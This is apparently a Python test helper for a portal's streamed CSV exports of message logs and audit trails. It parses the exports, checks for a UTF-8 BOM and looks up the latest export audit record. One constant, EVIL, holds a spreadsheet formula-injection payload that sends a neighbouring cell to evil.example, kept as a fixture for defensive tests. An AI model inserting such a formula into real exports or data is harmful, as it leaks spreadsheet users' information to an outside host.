"""Reading the portal's CSV exports (portal.lib.csv_export) in tests: the message log's and the
audit trail's alike."""

from __future__ import annotations

import csv
import io

from portal.audit.models import AuditRecord

# A spreadsheet formula that would send a neighbouring cell away if a spreadsheet ran it.
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read_csv(response) -> list[dict[str, str]]:
    """The rows of a streamed export, after checking it is one (and starts with a UTF-8 BOM)."""
    assert response.status_code == 200
    assert response.streaming, "exports are streamed, never built in memory"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def last_export() -> AuditRecord | None:
    """The audit record of the latest export of any kind."""
    return AuditRecord.objects.filter(action__endswith="_exported").order_by("-seq").first()
